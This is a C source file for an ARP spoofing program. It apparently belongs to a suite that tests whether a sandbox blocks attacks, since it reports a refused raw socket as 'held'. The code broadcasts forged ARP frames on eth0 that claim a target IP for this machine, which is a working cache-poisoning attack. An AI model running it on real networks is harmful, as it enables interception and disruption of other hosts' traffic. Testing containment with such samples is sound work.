/* arp-spoof ADDRESS TARGET: says on eth0, again and again, that ADDRESS is this machine's. */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    int fd = socket(AF_PACKET, SOCK_RAW, htons(0x806));
    if (fd < 0) {
        held("a raw socket of packets in a service: %s", strerror(errno));
        return 0;
    }
    struct ifreq request = {.ifr_name = "eth0"};
    ioctl(fd, SIOCGIFINDEX, &request);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex, .sll_halen = 6};
    memset(to.sll_addr, 0xff, 6);
    ioctl(fd, SIOCGIFHWADDR, &request);
    unsigned char frame[42] = {0}, kind[10] = {8, 6, 0, 1, 8, 0, 6, 4, 0, 2};
    memset(frame, 0xff, 6);
    memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
    memcpy(frame + 12, kind, sizeof kind);
    memcpy(frame + 22, request.ifr_hwaddr.sa_data, 6);
    inet_pton(AF_INET, argv[1], frame + 28);
    memset(frame + 32, 0xff, 6);
    inet_pton(AF_INET, argv[2], frame + 38);
    for (int round = 0; round < 20; round++) {
        frame[21] = (unsigned char)(1 + round % 2);
        sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to);
        pause_ms(100);
    }
    info("20 frames of ARP were sent");
    return 0;
}
